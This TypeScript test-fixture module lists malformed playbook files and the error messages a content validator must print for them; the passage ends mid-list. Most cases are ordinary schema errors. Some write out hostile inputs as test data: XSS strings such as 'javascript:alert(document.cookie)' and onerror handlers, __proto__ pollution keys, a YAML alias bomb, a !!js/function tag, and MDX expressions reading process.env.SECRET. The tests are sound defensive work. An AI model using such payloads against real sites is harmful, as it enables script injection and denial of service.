import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import yaml from 'js-yaml';

/**
 * The bad-input catalogue: malformed playbooks, each made by one edit of the minimal fixture,
 * with the lines the checker must print for it. Generated cases cover every field of every
 * collection with the same kinds of wrong value; hand-written ones cover files, folders and
 * cross-entry mistakes.
 */
export interface Case {
	name: string;
	/** Changes the copy of the minimal playbook in `<root>/content`. */
	edit: (content: string) => void;
	/** Each expected problem: file, field and a pattern its message and fix must match. */
	expect: Expected[];
}

export type Expected = [file: string, field: string, message: RegExp];

/** An edit that leaves the playbook valid: the checker must accept it without a word. */
export const ACCEPTED: Expected[] = [];

/** One sample file per collection, and the type of each of its keys. */
export const SAMPLES = {
	// A person who owns nothing, so a broken file is one line, not one per definition they own.
	'team/cole-success.yaml': {
		name: 'title',
		title: 'title',
		department: 'department',
		github: 'github',
		email: 'email',
		left: 'date',
	},
	'personas/cfo.mdx': {
		...definition(),
		role: 'text',
		buying_role: 'enum',
		icp: 'ids',
		goals: 'texts',
		pains: 'texts',
	},
	'icp/tier-one.mdx': {
		...definition(),
		tier: 'tier',
		signals: 'texts',
		disqualifiers: 'texts',
	},
	'lead-stages/mql.mdx': {
		...definition(),
		abbreviation: 'text',
		order: 'order',
		worked_by: 'department',
		score_threshold: 'count',
		entry_criteria: 'texts',
		exit_criteria: 'texts',
		next: 'ids',
		rejection_reasons: 'texts',
	},
	'buyer-stages/awareness.mdx': { ...definition(), order: 'order', buyer_question: 'text' },
	'library/benchmark.mdx': {
		...definition(),
		stages: 'ids',
		personas: 'ids',
		format: 'enum',
		use: 'enum',
		url: 'url',
		talk_track: 'text',
	},
	'slas/mql-follow-up.mdx': {
		...definition(),
		from: 'department',
		to: 'department',
		lead_stage: 'id',
		measured_in: 'text',
		escalation: 'text',
	},
	'glossary/lead-score.mdx': {
		...definition(),
		definition: 'text',
		see_also: 'ids',
		avoid: 'texts',
	},
	'metrics/mql-to-won.mdx': {
		...definition(),
		formula: 'text',
		numerator: 'text',
		denominator: 'text',
		source: 'text',
		lead_stages: 'ids',
	},
	'tracks/sdr.mdx': { title: 'title', summary: 'summary', role: 'text' },
	'guides/start-here.md': { title: 'title', summary: 'summary' },
	'results/2026-10.yaml': { month: 'month', source: 'text', notes: 'text' },
} as const satisfies Record<string, Record<string, FieldType>>;

type FieldType =
	| 'title'
	| 'summary'
	| 'text'
	| 'texts'
	| 'ids'
	| 'id'
	| 'owners'
	| 'enum'
	| 'department'
	| 'status'
	| 'date'
	| 'url'
	| 'email'
	| 'github'
	| 'order'
	| 'tier'
	| 'count'
	| 'months'
	| 'month';

function definition() {
	return {
		title: 'title',
		summary: 'summary',
		owners: 'owners',
		status: 'status',
		reviewed: 'date',
		review_every: 'months',
	} as const;
}

const MEGABYTE = 'x'.repeat(1_000_000);
const NOT_TEXT =
	/is (a (whole )?number|a list|a set of keys|empty|true or false), not text\. Write text instead\./;
const NOT_A_LIST = /is (text|a number|a set of keys), not a list/;
const NOT_A_NUMBER = /is (text|a list|true or false), not a (whole )?number/;
const EMPTY = /is empty\. Write some text here\./;
const NOT_AN_ID = /is not an entry id\./;
const NOT_LISTED = /is not one of /;

/** Wrong values for a field of each type, with what the checker must say about them. */
const WRONG_VALUES: Record<FieldType, [label: string, value: unknown, message: RegExp][]> = {
	title: [
		['empty', '', EMPTY],
		['whitespace only', ' \t ', EMPTY],
		['zero-width only', '\u200b\u200b', /shows nothing but invisible characters/],
		['1 MB', MEGABYTE, /is longer than 120 characters/],
		['121 characters', 'T'.repeat(121), /is longer than 120 characters/],
		['a number', 42, NOT_TEXT],
		['a fraction', 4.5, NOT_TEXT],
		['true', true, NOT_TEXT],
		['a list', ['a', 'b'], NOT_TEXT],
		['a map', { a: 1 }, NOT_TEXT],
		['null', null, NOT_TEXT],
	],
	summary: [
		['empty', '', EMPTY],
		['1 MB', MEGABYTE, /is longer than 300 characters/],
		['301 characters', 's'.repeat(301), /is longer than 300 characters/],
		['a list', ['one sentence'], NOT_TEXT],
	],
	text: [
		['empty', '', EMPTY],
		['whitespace only', '   ', EMPTY],
		['1 MB', MEGABYTE, /is longer than 2,000 characters/],
		['a number', 7, NOT_TEXT],
		['a map', { nested: { deeper: { deepest: 'x' } } }, NOT_TEXT],
	],
	texts: [
		['text instead of a list', 'one item', NOT_A_LIST],
		['an empty item', ['ok', ''], /item 2, "" is empty/],
		['a number item', [3], /item 1, 3 is a whole number, not text/],
		['a 1 MB item', [MEGABYTE], /item 1, .* is longer than 2,000 characters/],
	],
	ids: [
		['text instead of a list', 'mql', NOT_A_LIST],
		['a Cyrillic look-alike', ['mq\u043b'], NOT_AN_ID],
		['a zero-width space', ['m\u200bql'], NOT_AN_ID],
		['a space', ['big boss'], NOT_AN_ID],
		['a path', ['../mql'], NOT_AN_ID],
	],
	id: [
		['a list', ['mql'], NOT_TEXT],
		['a look-alike', 'mq\u217c', NOT_AN_ID],
		['empty', '', NOT_AN_ID],
	],
	owners: [
		['text instead of a list', 'sam-seller', NOT_A_LIST],
		['a Cyrillic look-alike', ['s\u0430m-seller', 'mia-marketer'], NOT_AN_ID],
		['a zero-width joiner', ['sam-seller', 'mia\u200d-marketer'], NOT_AN_ID],
		['a map', { sales: 'sam-seller' }, NOT_A_LIST],
	],
	enum: [
		['misspelt', 'shampion', NOT_LISTED],
		['upper case', 'SALES', NOT_LISTED],
		['a number', 1, NOT_LISTED],
	],
	department: [
		['both sides at once', ['sales', 'marketing'], NOT_LISTED],
		['misspelt', 'marketting', /is not one of .* Did you mean marketing\?/],
		['trailing space', 'sales ', NOT_LISTED],
	],
	status: [
		['capitalised', 'Approved', NOT_LISTED],
		['empty', '', NOT_LISTED],
	],
	month: [
		['a day', '2026-10-01', /is not a month\. Write it as YYYY-MM/],
		['month 13', '2026-13', /is not a month/],
		['month 0', '2026-00', /is not a month/],
		['written as words', 'October 2026', /is not a month/],
		['a number', 202610, /202610 is a whole number, not text/],
	],
	date: [
		['month 13', '2026-13-01', /is not a real date/],
		['day 31 of a 30-day month', '2026-04-31', /is not a real date/],
		['not a leap year', '2025-02-29', /is not a real date/],
		['written as words', 'last Tuesday', /is not a real date/],
		['text before the date', 'on 2026-10-01', /is not a real date/],
		['text after the date', '2026-10-01 (approx.)', /is not a real date/],
		['the year 99', '0099-10-01', /is not a real date/],
		['day first', '01-10-2026', /is not a real date/],
		['a number', 20261001, /20261001 is a whole number, not text/],
	],
	url: [
		['javascript:', 'javascript:alert(document.cookie)', /is not an http\(s\) address/],
		['data:', 'data:text/html,<script>alert(1)</script>', /is not an http\(s\) address/],
		['no scheme', 'example.com/asset', /is not an http\(s\) address/],
		['ftp', 'ftp://example.com/file', /is not an http\(s\) address/],
		['a space', 'https://example.com/my deck.pdf', /is not an http\(s\) address/],
		['a quote', 'https://example.com/"deck"', /is not an http\(s\) address/],
		['no host', 'https://', /is not an http\(s\) address/],
	],
	email: [
		['no domain', 'sam@', /is not an e-mail address/],
		['a name', 'Sam Seller', /is not an e-mail address/],
	],
	github: [
		['with @', '@samseller', /is not a GitHub handle/],
		['too long', 'a'.repeat(40), /is not a GitHub handle/],
		['a look-alike', 's\u0430mseller', /is not a GitHub handle/],
		['a trailing hyphen', 'samseller-', /is not a GitHub handle/],
		['two hyphens in a row', 'sam--seller', /is not a GitHub handle/],
	],
	order: [
		['text', 'first', NOT_A_NUMBER],
		['infinite', Infinity, /is not a finite number|not a number/],
	],
	tier: [
		['zero', 0, /./],
		['text', 'one', NOT_A_NUMBER],
		['a fraction', 1.5, /whole number/],
	],
	count: [
		['negative', -100, /is below zero/],
		['text', 'a hundred', NOT_A_NUMBER],
	],
	months: [
		['zero', 0, /is less than 1 month/],
		['a century', 1200, /is more than 60 months/],
		['a fraction', 1.5, /whole number/],
	],
};

/** Every field of every sample, set to every wrong value of its type. */
export function fieldCases(): Case[] {
	const cases: Case[] = [];
	for (const [file, fields] of Object.entries(SAMPLES)) {
		for (const [field, type] of Object.entries(fields) as [string, FieldType][]) {
			for (const [label, value, message] of WRONG_VALUES[type]) {
				cases.push({
					name: `${file} ${field}: ${label}`,
					edit: (content) => setKeys(content, file, { [field]: value }),
					expect: [[`content/${file}`, field, message]],
				});
			}
		}
	}
	return cases;
}

/** Each required key of each sample, removed. */
export function missingKeyCases(): Case[] {
	const optional = new Set([
		'github',
		'left',
		'email',
		'review_every',
		'abbreviation',
		'score_threshold',
		'rejection_reasons',
		'url',
		'talk_track',
		'lead_stage',
		'see_also',
		'avoid',
		'lead_stages',
		'numerator',
		'denominator',
		'summary@guides/start-here.md',
		'exit_criteria',
		'icp',
		'goals',
		'pains',
		'signals',
		'disqualifiers',
		'personas',
		'next',
		'notes',
	]);
	const cases: Case[] = [];
	for (const [file, fields] of Object.entries(SAMPLES)) {
		for (const field of Object.keys(fields)) {
			if (optional.has(field) || optional.has(`${field}@${file}`)) continue;
			cases.push({
				name: `${file} without ${field}`,
				edit: (content) => setKeys(content, file, { [field]: undefined }),
				expect: [[`content/${file}`, field, /is required but missing\. Add /]],
			});
		}
	}
	return cases;
}

/** Reads the frontmatter (or whole YAML file), sets or removes keys, and writes it back. */
export function setKeys(content: string, file: string, keys: Record<string, unknown>): void {
	const path = join(content, file);
	const text = readFileSync(path, 'utf8');
	const isYaml = file.endsWith('.yaml');
	const match = isYaml ? undefined : /^---\n([\s\S]*?)\n---\n?([\s\S]*)$/.exec(text);
	const data = yaml.load(isYaml ? text : match![1]!, { schema: yaml.CORE_SCHEMA }) as Record<
		string,
		unknown
	>;
	for (const [key, value] of Object.entries(keys)) {
		if (value === undefined) delete data[key];
		else data[key] = value;
	}
	const front = yaml.dump(data, { lineWidth: -1, schema: yaml.CORE_SCHEMA });
	writeFileSync(path, isYaml ? front : `---\n${front}---\n${match![2]!}`);
}

/** Changes a file's text. */
export function rewrite(content: string, file: string, change: (text: string) => string): void {
	const path = join(content, file);
	writeFileSync(path, change(readFileSync(path, 'utf8')));
}

/** Writes a file, making its folder. */
export function put(content: string, file: string, data: string | Uint8Array): void {
	const path = join(content, file);
	mkdirSync(dirname(path), { recursive: true });
	writeFileSync(path, data);
}

/** Removes a file or folder. */
export function drop(content: string, file: string): void {
	rmSync(join(content, file), { recursive: true, force: true });
}

const MQL = 'lead-stages/mql.mdx';
const SLA = 'slas/mql-follow-up.mdx';
const ICP = 'icp/tier-one.mdx';
const CFO = 'personas/cfo.mdx';
const GUIDE = 'guides/start-here.md';
const TEAM = 'team/cole-success.yaml';

const front = (text: string, key: string, line: string) =>
	text.replace(new RegExp(`^${key}:.*$`, 'm'), line);
const appendBody = (text: string, body: string) => `${text.trimEnd()}\n\n${body}\n`;
const commitment = (changes: Record<string, unknown>) => ({
	commitments: [
		{ what: 'First contact', target: 2, unit: 'business hours', period: 'per lead', ...changes },
	],
});

/** Files, folders, encodings and cross-entry mistakes, each written by hand, kind by kind. */
export function fileCases(): Case[] {
	return [
		...yamlCases(),
		...unknownKeyCases(),
		...rangeCases(),
		...peopleCases(),
		...crossEntryCases(),
		...bodyCases(),
		...edgeCases(),
		...bodyImportCases(),
		...rawHtmlCases(),
		...folderCases(),
		...siteFileCases(),
	];
}

/** The site's names, in content/site.yaml. */
function siteFileCases(): Case[] {
	return [
		c(
			'a site title and company written right',
			(d) => put(d, 'site.yaml', 'title: Acme Playbook\ncompany: Acme\n'),
			ACCEPTED,
		),
		c('a misspelt key in site.yaml', (d) => put(d, 'site.yaml', 'tittle: Acme Playbook\n'), [
			['content/site.yaml', 'tittle', /is not a key/],
		]),
		c('a site title that is a list', (d) => put(d, 'site.yaml', 'title: [Acme, Playbook]\n'), [
			['content/site.yaml', 'title', /./],
		]),
		c('an example fingerprint made up by hand', (d) => put(d, 'site.yaml', 'example: abc\n'), [
			['content/site.yaml', 'example', /is not the fingerprint npm run init wrote/],
		]),
		c('site.yaml that is not YAML', (d) => put(d, 'site.yaml', 'title: [Acme\n'), [
			['content/site.yaml', 'frontmatter', /is not valid YAML/],
		]),
	];
}

const c = (name: string, edit: Case['edit'], expect: Expected[]): Case => ({ name, edit, expect });
const YAML = /is not valid YAML/;

/** YAML syntax and encodings. */
function yamlCases(): Case[] {
	return [
		c(
			'an unclosed list',
			(d) => rewrite(d, CFO, (t) => front(t, 'owners', 'owners: [sam-seller')),
			[[`content/${CFO}`, 'frontmatter', YAML]],
		),
		c(
			'a tab indenting a key',
			(d) => rewrite(d, ICP, (t) => t.replace('  industries', '\tindustries')),
			[[`content/${ICP}`, 'frontmatter', YAML]],
		),
		c(
			'a key written twice',
			(d) => rewrite(d, CFO, (t) => t.replace('role:', 'title: Again\nrole:')),
			[[`content/${CFO}`, 'frontmatter', /duplicated mapping key/]],
		),
		c(
			'a colon inside unquoted text',
			(d) => rewrite(d, CFO, (t) => front(t, 'role', 'role: CFO: finance: all')),
			[
				[
					`content/${CFO}`,
					'frontmatter',
					/the text of role holds ": ".*Put the text in quotes: role: "CFO: finance: all"/,
				],
			],
		),
		c(
			'a JavaScript tag',
			(d) => rewrite(d, CFO, (t) => front(t, 'role', 'role: !!js/function "() => 1"')),
			[[`content/${CFO}`, 'frontmatter', /unknown tag/]],
		),
		c('a list instead of keys', (d) => put(d, TEAM, '- name: Sam\n- title: AE\n'), [
			[`content/${TEAM}`, 'frontmatter', /is a list, not a set of key: value lines/],
		]),
		c('a single value instead of keys', (d) => put(d, TEAM, 'Sam Seller\n'), [
			[`content/${TEAM}`, 'frontmatter', /is a single value/],
		]),
		c('no closing ---', (d) => rewrite(d, CFO, (t) => t.replace(/\n---\n/, '\n')), [
			[`content/${CFO}`, 'frontmatter', /opens with --- but has no closing --- line\. Add a line/],
		]),
		c(
			'a mistyped owner',
			(d) => rewrite(d, CFO, (t) => t.replace('owners: [sam-seller,', 'owners: [sam-seler,')),
			[
				[
					`content/${CFO}`,
					'owners',
					/names sam-seler, who is not in content\/team\. Did you mean sam-seller\?/,
				],
			],
		),
		c(
			'a mistyped reference',
			(d) =>
				rewrite(d, 'library/benchmark.mdx', (t) =>
					t.replace(/^stages: \[.*\]$/m, 'stages: [decison]'),
				),
			[['content/library/benchmark.mdx', 'stages', /names "decison".*Did you mean decision\?/]],
		),
		c(
			'a title written for an id',
			(d) =>
				rewrite(d, 'library/benchmark.mdx', (t) =>
					t.replace(/^stages: \[.*\]$/m, 'stages: [Decision]'),
				),
			[['content/library/benchmark.mdx', 'stages', /names "Decision".*Did you mean decision\?/]],
		),
		c(
			'a review dated in the future',
			(d) => rewrite(d, CFO, (t) => t.replace(/^reviewed: .*$/m, 'reviewed: 2027-01-15')),
			[
				[
					`content/${CFO}`,
					'reviewed',
					/is 2027-01-15, a day still to come \(today is 2026-11-24\)/,
				],
			],
		),
		c(
			'a summary left as npm run new wrote it',
			(d) =>
				rewrite(d, CFO, (t) =>
					t.replace(/^summary: .*$/m, 'summary: One sentence a rep can read in a search result.'),
				),
			[[`content/${CFO}`, 'summary', /is still "One sentence a rep can read/]],
		),
		c(
			'a body left as npm run new wrote it',
			(d) =>
				rewrite(
					d,
					CFO,
					(t) =>
						t.slice(0, t.lastIndexOf('---') + 4) + '\nWrite what CFO means for both teams here.\n',
				),
			[[`content/${CFO}`, 'body', /is still the sentence npm run new wrote/]],
		),
		c('an empty file', (d) => put(d, CFO, ''), [
			[`content/${CFO}`, 'frontmatter', /does not start with a --- frontmatter block/],
		]),
		c(
			'nesting 5,000 lists deep',
			(d) =>
				rewrite(d, CFO, (t) => front(t, 'role', `role: ${'['.repeat(5000)}${']'.repeat(5000)}`)),
			[[`content/${CFO}`, 'frontmatter', /nesting exceeded/]],
		),
		c(
			'nesting 200 maps deep',
			(d) =>
				rewrite(d, ICP, (t) =>
					front(t, 'signals', `signals: [${'{a: '.repeat(200)}1${'}'.repeat(200)}]`),
				),
			[[`content/${ICP}`, 'frontmatter', /nesting exceeded/]],
		),
		c('a Latin-1 file', (d) => put(d, CFO, Buffer.from('---\ntitle: Caf\xe9\n---\n', 'latin1')), [
			[`content/${CFO}`, '-', /is not UTF-8 text\. Save the file as UTF-8/],
		]),
		c('a UTF-16 file', (d) => put(d, TEAM, Buffer.from('\ufeffname: Sam\n', 'utf16le')), [
			[`content/${TEAM}`, '-', /is not UTF-8 text/],
		]),
		c(
			'a picture saved as .mdx',
			(d) =>
				put(d, CFO, Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0x00])),
			[[`content/${CFO}`, '-', /is not UTF-8 text/]],
		),
		c('CRLF line endings', (d) => rewrite(d, MQL, (t) => t.replace(/\n/g, '\r\n')), ACCEPTED),
		c('a byte-order mark', (d) => rewrite(d, TEAM, (t) => `\ufeff${t}`), ACCEPTED),
		c(
			'a byte-order mark and CRLF in MDX',
			(d) => rewrite(d, SLA, (t) => `\ufeff${t.replace(/\n/g, '\r\n')}`),
			ACCEPTED,
		),
		c(
			'a tab inside quoted text',
			(d) => rewrite(d, CFO, (t) => front(t, 'role', 'role: "Chief\tFinancial Officer"')),
			ACCEPTED,
		),
		c(
			'a line break inside a title',
			(d) => setKeys(d, CFO, { title: 'CFO\n## Approved by @everyone' }),
			[[`content/${CFO}`, 'title', /holds a line break or another control character/]],
		),
		c(
			'a line separator inside a list item',
			(d) => setKeys(d, CFO, { goals: ['Close fast\u2028- [x](https://evil.example)'] }),
			[[`content/${CFO}`, 'goals', /item 1, .* holds a line break or another control character/]],
		),
		c(
			'an escape character inside a summary',
			(d) => setKeys(d, CFO, { summary: 'Finance lead \u001b[31mred' }),
			[[`content/${CFO}`, 'summary', /holds a line break or another control character/]],
		),
		c(
			'a talk track over two lines',
			(d) =>
				setKeys(d, 'library/benchmark.mdx', {
					talk_track: 'Open with the number.\nThen ask how long theirs takes.',
				}),
			ACCEPTED,
		),
		c(
			'a mistyped owner and an unknown key in one file',
			(d) =>
				rewrite(d, MQL, (t) =>
					front(t, 'owners', 'owners: [sam-seler, mia-marketer]\ncolour: red'),
				),
			[
				[`content/${MQL}`, 'colour', /is not a key of the content contract/],
				[
					`content/${MQL}`,
					'owners',
					/names sam-seler, who is not in content\/team.*Did you mean sam-seller\?/,
				],
			],
		),
		c(
			'a mistyped reference beside a wrong value in one file',
			(d) => setKeys(d, 'library/benchmark.mdx', { personas: ['cfoo'], format: 'pamphlet' }),
			[
				['content/library/benchmark.mdx', 'format', /pamphlet/],
				['content/library/benchmark.mdx', 'personas', /names "cfoo".*Did you mean cfo\?/],
			],
		),
		c(
			'a YAML mistake in the file of someone who owns definitions',
			(d) => rewrite(d, 'team/mia-marketer.yaml', (t) => `${t}github: [unclosed\n`),
			[['content/team/mia-marketer.yaml', 'frontmatter', /is not valid YAML/]],
		),
		c(
			'two buyer stages share the lowest order',
			(d) => setKeys(d, 'buyer-stages/decision.mdx', { order: 1 }),
			[
				[
					'content/buyer-stages/decision.mdx',
					'order',
					/the same as awareness, so the buyer's journey has two first stages/,
				],
			],
		),
		c(
			'a lead stage whose criteria name another score than its threshold',
			(d) => setKeys(d, MQL, { score_threshold: 120 }),
			[
				[
					`content/${MQL}`,
					'entry_criteria',
					/item 1, "Lead score of 100 or more", names a score of 100, but score_threshold is 120/,
				],
			],
		),
		c(
			'an SLA commitment whose sentence gives another figure than its target',
			(d) => setKeys(d, SLA, commitment({ what: 'First contact within 4 business hours' })),
			[
				[
					`content/${SLA}`,
					'commitments[0].what',
					/says 4 business hours, but the target is 2 business hours/,
				],
			],
		),
		c(
			'emoji and right-to-left text',
			(d) => setKeys(d, CFO, { role: 'المدير المالي 💰' }),
			ACCEPTED,
		),
		c(
			'a fractional stage order, to fit a stage between two',
			(d) => setKeys(d, MQL, { order: 2.5 }),
			ACCEPTED,
		),
		c('padded text is trimmed', (d) => setKeys(d, CFO, { title: '   CFO   ' }), ACCEPTED),
		c(
			'a 1 MB body',
			(d) => rewrite(d, GUIDE, (t) => appendBody(t, 'word '.repeat(200_000))),
			ACCEPTED,
		),
	];
}

/** Keys that are not the contract's. */
function unknownKeyCases(): Case[] {
	return [
		c(
			'a __proto__ key',
			(d) => rewrite(d, CFO, (t) => t.replace('---\n', '---\n__proto__: { polluted: true }\n')),
			[[`content/${CFO}`, '__proto__', /is not a key of the content contract/]],
		),
		c(
			'a constructor key',
			(d) => rewrite(d, CFO, (t) => t.replace('---\n', '---\nconstructor: Object\n')),
			[[`content/${CFO}`, 'constructor', /is not a key of the content contract/]],
		),
		c(
			'a __proto__ key inside a nested map',
			(d) =>
				rewrite(d, ICP, (t) => t.replace('  regions:', '  __proto__: { admin: true }\n  regions:')),
			[[`content/${ICP}`, 'firmographics.__proto__', /is not a key of the content contract/]],
		),
		c('a capitalised key', (d) => rewrite(d, CFO, (t) => t.replace(/^title:/m, 'Title:')), [
			[`content/${CFO}`, 'Title', /Rename it to title/],
			[`content/${CFO}`, 'title', /is required but missing/],
		]),
		c(
			'an alias bomb',
			(d) =>
				rewrite(d, CFO, (t) =>
					t.replace(
						'---\n',
						`---\nbomb: &a [x, x, x, x, x, x, x, x]\nbomb2: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nbomb3: [*b, *b, *b, *b, *b, *b, *b, *b]\n`,
					),
				),
			[
				[`content/${CFO}`, 'bomb', /is not a key/],
				[`content/${CFO}`, 'bomb2', /is not a key/],
				[`content/${CFO}`, 'bomb3', /is not a key/],
			],
		),
	];
}

/** Numbers out of range. */
function rangeCases(): Case[] {
	return [
		c('an SLA target below zero', (d) => setKeys(d, SLA, commitment({ target: -2 })), [
			[`content/${SLA}`, 'commitments[0].target', /is not more than zero/],
		]),
		c(
			'an SLA direction that is not higher or lower',
			(d) => setKeys(d, SLA, commitment({ better: 'faster' })),
			[[`content/${SLA}`, 'commitments[0].better', /higher.*lower|lower.*higher/]],
		),
		c(
			'an SLA direction written out',
			(d) => setKeys(d, SLA, commitment({ better: 'lower' })),
			ACCEPTED,
		),
		c('an SLA target of zero', (d) => setKeys(d, SLA, commitment({ target: 0 })), [
			[`content/${SLA}`, 'commitments[0].target', /is not more than zero/],
		]),
		c('a 10,000-hour response time', (d) => setKeys(d, SLA, commitment({ target: 10_000 })), [
			[
				`content/${SLA}`,
				'commitments[0].target',
				/10000 is more than 2160 business hours, longer than a quarter/,
			],
		]),
		c(
			'a 200-day response time',
			(d) => setKeys(d, SLA, commitment({ target: 200, unit: 'business days' })),
			[[`content/${SLA}`, 'commitments[0].target', /is more than 90 business days/]],
		),
		c(
			'a rate above 100 percent',
			(d) => setKeys(d, SLA, commitment({ target: 101, unit: 'percent' })),
			[[`content/${SLA}`, 'commitments[0].target', /is more than 100 percent/]],
		),
		c('a target written as words', (d) => setKeys(d, SLA, commitment({ target: 'two' })), [
			[`content/${SLA}`, 'commitments[0].target', /"two" is text, not a number/],
		]),
		c('an infinite target', (d) => rewrite(d, SLA, (t) => t.replace('target: 2', 'target: .inf')), [
			[`content/${SLA}`, 'commitments[0].target', /./],
		]),
		c(
			'a generous but real target',
			(d) => setKeys(d, SLA, commitment({ target: 2_000, unit: 'MQLs', period: 'per quarter' })),
			ACCEPTED,
		),
		c('no commitments', (d) => setKeys(d, SLA, { commitments: [] }), [
			[`content/${SLA}`, 'commitments', /is an empty list/],
		]),
		c('a commitment without a unit', (d) => setKeys(d, SLA, commitment({ unit: undefined })), [
			[`content/${SLA}`, 'commitments[0].unit', /is required but missing/],
		]),
		c('a commitment with an unknown key', (d) => setKeys(d, SLA, commitment({ owner: 'sam' })), [
			[`content/${SLA}`, 'commitments[0].owner', /is not a key/],
		]),
		c('headcount max below min', (d) => rewrite(d, ICP, (t) => t.replace('max: 2000', 'max: 20')), [
			[`content/${ICP}`, 'firmographics.employees.max', /is below min/],
		]),
		c('negative headcount', (d) => rewrite(d, ICP, (t) => t.replace('min: 200', 'min: -200')), [
			[`content/${ICP}`, 'firmographics.employees.min', /is below zero/],
		]),
		c(
			'a reading time of zero minutes',
			(d) => rewrite(d, 'tracks/sdr.mdx', (t) => t.replace('minutes: 5', 'minutes: 0')),
			[['content/tracks/sdr.mdx', 'steps[0].minutes', /is not a positive number of minutes/]],
		),
	];
}

/** Owners and people. */
function peopleCases(): Case[] {
	return [
		c(
			'the same person twice as both owners',
			(d) => setKeys(d, CFO, { owners: ['sam-seller', 'sam-seller'] }),
			[
				[`content/${CFO}`, 'owners', /lists sam-seller more than once/],
				[`content/${CFO}`, 'owners', /needs an owner from marketing; has sam-seller \(sales\)/],
			],
		),
		c(
			'one person filed twice, once per department',
			(d) => {
				put(d, 'team/sam-seller.yml', 'name: Sam Seller\ntitle: Marketer\ndepartment: marketing\n');
				setKeys(d, CFO, { owners: ['sam-seller'] });
			},
			[
				[
					'content/team/sam-seller.yml',
					'id',
					/the id "sam-seller" is already used by content\/team\/sam-seller.yaml/,
				],
				[`content/${CFO}`, 'owners', /needs an owner from marketing; has sam-seller \(sales\)/],
			],
		),
		c(
			'an owner id with a look-alike letter',
			(d) => setKeys(d, CFO, { owners: ['sam-seller', 'mia-m\u0430rketer'] }),
			[[`content/${CFO}`, 'owners', /item 2, "mia-m\u0430rketer" is not an entry id/]],
		),
		c(
			'a person file with an invisible character in its name',
			(d) =>
				put(
					d,
					'team/mia\u200b-marketer.yaml',
					'name: Mia\ntitle: Marketer\ndepartment: marketing\n',
				),
			[['content/team/mia\u200b-marketer.yaml', 'id', /is not a valid id/]],
		),
		c(
			'a file name with a Cyrillic letter',
			(d) => put(d, 'personas/\u0441fo.mdx', readFileSync(join(d, CFO))),
			[['content/personas/\u0441fo.mdx', 'id', /is not a valid id/]],
		),
		c(
			'a file name starting with a dash',
			(d) => put(d, 'personas/-cfo.mdx', readFileSync(join(d, CFO))),
			[['content/personas/-cfo.mdx', 'id', /is not a valid id/]],
		),
		c('no content/team', (d) => drop(d, 'team'), [
			['content/team', '-', /has no people, so no definition can have owners/],
		]),
		c(
			'a team folder holding only its README',
			(d) => {
				drop(d, 'team');
				put(d, 'team/README.md', '# Team\n');
			},
			[['content/team', '-', /has no people/]],
		),
		c(
			'an empty content folder',
			(d) => {
				for (const folder of Object.keys(SAMPLES).map((f) => f.split('/')[0]!)) drop(d, folder);
			},
			[['content/team', '-', /has no people/]],
		),
	];
}

/** Mistakes across entries. */
function crossEntryCases(): Case[] {
	return [
		c(
			'an approved stage leading to a deprecated one',
			(d) => setKeys(d, 'lead-stages/won.mdx', { status: 'deprecated' }),
			[
				[
					`content/${MQL}`,
					'next',
					/names "won", which is deprecated, but this definition is approved/,
				],
				['content/metrics/mql-to-won.mdx', 'lead_stages', /names "won", which is deprecated/],
			],
		),
		c(
			'a draft may point at a deprecated stage',
			(d) => {
				setKeys(d, 'lead-stages/won.mdx', { status: 'deprecated' });
				setKeys(d, MQL, { status: 'draft' });
				setKeys(d, 'metrics/mql-to-won.mdx', { status: 'draft' });
			},
			ACCEPTED,
		),
		c('a stage that only leads to itself', (d) => setKeys(d, MQL, { next: ['mql'] }), [
			[`content/${MQL}`, 'next', /every path loops back/],
			['content/lead-stages/won.mdx', 'next', /no stage leads here/],
		]),
	];
}

/** Bodies. */
function bodyCases(): Case[] {
	return [
		c(
			'a broken link in a body',
			(d) => rewrite(d, GUIDE, (t) => appendBody(t, 'See [the CTO](/personas/cto/).')),
			[
				[
					`content/${GUIDE}`,
					'body',
					/line \d+: links to \/personas\/cto\/, which is not a page of this playbook\. Link to a page that exists, such as \/personas\//,
				],
			],
		),
		c(
			'a relative link to a missing page',
			(d) => rewrite(d, CFO, (t) => appendBody(t, 'Compare [the CTO](../cto/).')),
			[[`content/${CFO}`, 'body', /links to \.\.\/cto\//]],
		),
		c(
			'a link to an unknown section',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '[Playbooks](/playbooks/)')),
			[[`content/${CFO}`, 'body', /links to \/playbooks\//]],
		),
		c(
			'working links of every form',
			(d) =>
				rewrite(d, CFO, (t) =>
					appendBody(
						t,
						'[a](/personas/controller/) [b](../controller/) [c](/lead-stages/mql) [d](#goals) [e](https://example.com/x) [f](/find/?stage=awareness) [g](mailto:a@b.co) [h](/files/deck.pdf) <a href="/coverage/">h</a>',
					),
				),
			ACCEPTED,
		),
		c(
			'a script element in MDX',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '<script>alert(1)</script>')),
			[[`content/${CFO}`, 'body', /<script> would run or embed code in a reader's browser/]],
		),
		c(
			'an event handler in MDX',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '<img src="x.png" alt="" onError="alert(1)" />')),
			[[`content/${CFO}`, 'body', /<img onError=…> would run script/]],
		),
		c(
			'raw HTML with a handler in Markdown',
			(d) => rewrite(d, GUIDE, (t) => appendBody(t, '<img src=x onerror=alert(1)>')),
			[[`content/${GUIDE}`, 'body', /<img onerror=…> would run script in a reader's browser/]],
		),
		c(
			'a javascript: link in Markdown',
			(d) => rewrite(d, GUIDE, (t) => appendBody(t, '[Click](javascript:alert(1))')),
			[[`content/${GUIDE}`, 'body', /the link "javascript:alert\(1\)" would run script/]],
		),
		c(
			'an import of a Node module',
			(d) => rewrite(d, CFO, (t) => appendBody(t, "import fs from 'node:fs'")),
			[[`content/${CFO}`, 'body', /"import fs from 'node:fs'" runs code when the site is built/]],
		),
		c('an export', (d) => rewrite(d, CFO, (t) => appendBody(t, 'export const x = 1')), [
			[`content/${CFO}`, 'body', /runs code when the site is built/],
		]),
		c('an expression', (d) => rewrite(d, CFO, (t) => appendBody(t, '{process.exit(1)}')), [
			[`content/${CFO}`, 'body', /the expression \{process.exit\(1\)\} runs code/],
		]),
		c(
			'an attribute expression',
			(d) => rewrite(d, CFO, (t) => appendBody(t, '<a href={process.env.SECRET}>x</a>')),
			[[`content/${CFO}`, 'body', /the attribute href=\{process.env.SECRET\} runs code/]],
		),
